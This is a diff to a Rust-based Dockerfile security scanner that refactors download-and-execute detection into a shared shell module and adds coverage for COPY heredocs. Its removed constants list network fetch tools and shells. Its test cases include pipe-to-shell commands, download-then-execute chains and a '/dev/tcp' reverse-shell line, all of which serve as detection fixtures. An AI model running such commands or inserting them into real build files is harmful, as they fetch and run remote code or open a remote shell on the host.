@@ -2,8 +2,8 @@
 
 use lazaret_core::{FormatId, Likeness, Severity};
 
-use super::text::is_text;
-use super::{python, requirements};
+use super::text::{is_text, whole};
+use super::{python, requirements, shell};
 use crate::look::{Head, Looking};
 use crate::part::{Part, Unread, printed};
 use crate::registry::ModelFormat;
@@ -33,38 +33,6 @@ const INSTRUCTIONS: &[&str] = &[
     "WORKDIR",
 ];
 
-/// Programs that fetch or decode what others run.
-const FETCH: &[&str] = &[
-    "aria2c", "axel", "base32", "base64", "curl", "fetch", "ftp", "lynx", "nc", "ncat", "netcat", "openssl",
-    "scp", "wget", "xxd",
-];
-/// Programs that run what they are fed.
-const RUN: &[&str] = &[
-    "ash",
-    "bash",
-    "cmd",
-    "csh",
-    "dash",
-    "fish",
-    "iex",
-    "ksh",
-    "lua",
-    "node",
-    "perl",
-    "php",
-    "powershell",
-    "pwsh",
-    "ruby",
-    "sh",
-    "tclsh",
-    "zsh",
-];
-/// Words before a program.
-const BEFORE: &[&str] = &[
-    "command", "doas", "env", "exec", "nice", "nohup", "sudo", "then", "do", "else", "time", "xargs", "!",
-    "{",
-];
-
 impl ModelFormat for Dockerfile {
     fn id(&self) -> FormatId {
         FormatId("dockerfile")
@@ -89,14 +57,8 @@ impl ModelFormat for Dockerfile {
     }
 
     fn read(&self, part: &Part, looking: &mut Looking<'_>) -> Result<FormatId, Unread> {
-        let bytes = part.whole(looking.limits.get(python::MAX_SOURCE))?;
-        let text = std::str::from_utf8(&bytes);
-        let text =
-            text.map_err(|error| Unread::malformed(error.valid_up_to() as u64, "it is no UTF-8 text"))?;
-        if let Some(at) = text.find('\0') {
-            return Err(Unread::malformed(at as u64, "a text that goes on as binary data"));
-        }
-        for (at, line) in instructions(text) {
+        let text = whole(part, looking.limits.get(python::MAX_SOURCE))?;
+        for (at, line) in instructions(&text) {
             let (mut instruction, mut rest) = word(&line);
             // It is carried out by who builds upon the image.
             while instruction.eq_ignore_ascii_case("ONBUILD") {
@@ -109,6 +71,8 @@ impl ModelFormat for Dockerfile {
             match instruction.as_str() {
                 "RUN" | "CMD" | "ENTRYPOINT" | "HEALTHCHECK" | "SHELL" => commands(rest, at, part, looking),
                 "ADD" => added(rest, at, part, looking),
+                // A text that becomes a file: what it does is done when it is run.
+                "COPY" if rest.contains("<<") => commands(rest, at, part, looking),
                 _ => {}
             }
         }
@@ -211,9 +175,9 @@ fn host(address: &str) -> &str {
 
 /// Judges the commands of one instruction.
 fn commands(text: &str, at: u64, part: &Part, looking: &mut Looking<'_>) {
-    if let Some(says) = runs_download(text) {
+    if let Some(says) = shell::at_once(text) {
         looking.find(&rules::RUNS_DOWNLOAD, part.at(at), says);
-    } else if let Some(program) = runs_later(text) {
+    } else if let Some(program) = shell::later(text) {
         let says = format!("it downloads files and has `{program}` run one");
         looking.find_as(Severity::Medium, &rules::RUNS_DOWNLOAD, part.at(at), says);
     }
@@ -239,86 +203,6 @@ fn commands(text: &str, at: u64, part: &Part, looking: &mut Looking<'_>) {
         };
         requirements::comes_from(&line, || part.at(at), looking);
     }
-}
-
-/// Why commands run what they download, if they do in one go.
-fn runs_download(text: &str) -> Option<String> {
-    if text.contains("/dev/tcp/") || text.contains("/dev/udp/") {
-        return Some("a shell opens a connection by itself (`/dev/tcp`)".to_owned());
-    }
-    for command in commands_of(text) {
-        let stages: Vec<&str> = command.split('|').collect();
-        for (number, stage) in stages.iter().enumerate() {
-            let Some(program) = program_of(stage).filter(|program| runs(program)) else { continue };
-            let before = stages.iter().take(number);
-            let fetched = before.flat_map(|stage| words_of(stage)).find(|word| FETCH.contains(word));
-            // `bash -c "$(curl …)"`, `bash <(curl …)`
-            let within = stage.contains("$(") || stage.contains('`') || stage.contains("<(");
-            let within = words_of(stage).filter(|_| within).find(|word| FETCH.contains(word));
-            if let Some(from) = fetched.or(within) {
-                return Some(format!("`{program}` runs what `{from}` gives it"));
-            }
-        }
-    }
-    None
-}
-
-/// The program that runs a file, where commands download some.
-fn runs_later(text: &str) -> Option<&str> {
-    if !text.contains("://") && !text.contains('$') {
-        return None;
-    }
-    let downloads = commands_of(text)
-        .position(|command| matches!(program_of(command), Some("curl" | "wget" | "aria2c")))?;
-    let runs_file = |command: &&str| {
-        let program = program_of(command).unwrap_or_default();
-        // Python's own modules are none, nor is what sets the variables of a shell.
-        let is_python = program.starts_with("python") && command.contains(".py");
-        is_python
-            || RUN.contains(&program) && program.ends_with("sh")
-            || program.starts_with("./")
-            || program.starts_with("/tmp/")
-    };
-    commands_of(text).skip(downloads).find(runs_file).and_then(program_of)
-}
-
-fn commands_of(text: &str) -> impl Iterator<Item = &str> {
-    text.split(['\n', ';']).flat_map(|line| line.split("&&")).flat_map(|line| line.split("||"))
-}
-
-fn runs(program: &str) -> bool {
-    RUN.contains(&program) || program.starts_with("python") || matches!(program, "eval" | "source" | ".")
-}
-
-/// The program of a command, without its folder unless that is its own or a temporary one.
-fn program_of(command: &str) -> Option<&str> {
-    let words = command
-        .split_whitespace()
-        .map(|word| word.trim_matches(['"', '\'', '[', ']', ',', '(', ')', '{', '}']));
-    let mut words = words.filter(|word| !word.is_empty() && !word.starts_with('-'));
-    let program = words.find(|word| {
-        let is_variable = word
-            .split_once('=')
-            .is_some_and(|(name, _)| name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
-        !is_variable && !BEFORE.contains(&last_step(word))
-    })?;
-    if program.starts_with("./") || program.starts_with("/tmp/") {
-        Some(program)
-    } else {
-        Some(last_step(program))
-    }
-}
-
-/// The words of a command as programs are named.
-fn words_of(command: &str) -> impl Iterator<Item = &str> {
-    let ends = |c: char| {
-        c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '$' | '(' | ')' | '<' | '[' | ']' | ',' | ';')
-    };
-    command.split(ends).map(last_step)
-}
-
-fn last_step(word: &str) -> &str {
-    word.rsplit('/').next().unwrap_or(word)
 }
 
 #[cfg(test)]
@@ -354,6 +238,9 @@ mod tests {
             ("RUN [\"/bin/sh\", \"-c\", \"curl https://a/x | sh\"]", "dockerfile.runs-download"),
             ("RUN <<EOF\ncurl https://a/x | sh\nEOF", "dockerfile.runs-download"),
             ("RUN bash -i >& /dev/tcp/a/1", "dockerfile.runs-download"),
+            ("RUN curl https://a/x |& sh", "dockerfile.runs-download"),
+            ("RUN curl https://a/x > /y && chmod +x /y && /y", "dockerfile.runs-download"),
+            ("COPY <<EOF /x.sh\ncurl https://a/x | sh\nEOF", "dockerfile.runs-download"),
             ("RUN curl -o x https://a/x && chmod +x x && ./x", "dockerfile.runs-download"),
             ("RUN wget https://a/x.sh; sh x.sh", "dockerfile.runs-download"),
             ("ADD https://a/x /x", "dockerfile.runs-download"),
